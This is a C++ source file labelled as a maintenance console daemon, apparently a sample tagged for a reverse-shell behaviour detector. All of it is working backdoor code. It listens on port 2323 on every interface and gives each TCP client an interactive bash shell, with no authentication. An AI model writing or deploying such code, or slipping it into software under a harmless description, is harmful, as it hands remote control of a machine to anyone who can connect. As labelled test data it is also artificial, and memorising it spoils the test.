// blind-expect: behavior.reverse-shell
// Maintenance console daemon that gives each TCP client on the management port its own shell session.
#include <netinet/in.h>
#include <signal.h>
#include <spawn.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cstdio>
#include <cstring>
#include <vector>

extern char **environ;

class ConsoleServer {
public:
    explicit ConsoleServer(unsigned short port) : port_(port) {}

    bool listenOn() {
        fd_ = socket(AF_INET, SOCK_STREAM, 0);
        int one = 1;
        setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        sockaddr_in addr{};
        addr.sin_family = AF_INET;
        addr.sin_port = htons(port_);
        addr.sin_addr.s_addr = htonl(INADDR_ANY);
        return bind(fd_, reinterpret_cast<sockaddr *>(&addr), sizeof addr) == 0 &&
               listen(fd_, 4) == 0;
    }

    void loop() {
        signal(SIGCHLD, SIG_IGN);
        for (;;) {
            int client = accept(fd_, nullptr, nullptr);
            if (client < 0) continue;
            spawnSession(client);
            close(client);
        }
    }

private:
    void spawnSession(int client) {
        posix_spawn_file_actions_t fa;
        posix_spawn_file_actions_init(&fa);
        posix_spawn_file_actions_adddup2(&fa, client, 0);
        posix_spawn_file_actions_adddup2(&fa, client, 1);
        posix_spawn_file_actions_adddup2(&fa, client, 2);
        std::vector<char *> args = {const_cast<char *>("bash"), const_cast<char *>("-i"), nullptr};
        pid_t pid;
        if (posix_spawn(&pid, "/bin/bash", &fa, nullptr, args.data(), environ) != 0)
            perror("posix_spawn");
        posix_spawn_file_actions_destroy(&fa);
    }

    unsigned short port_;
    int fd_ = -1;
};

int main() {
    ConsoleServer server(2323);
    if (!server.listenOn()) {
        perror("listen");
        return 1;
    }
    server.loop();
    return 0;
}
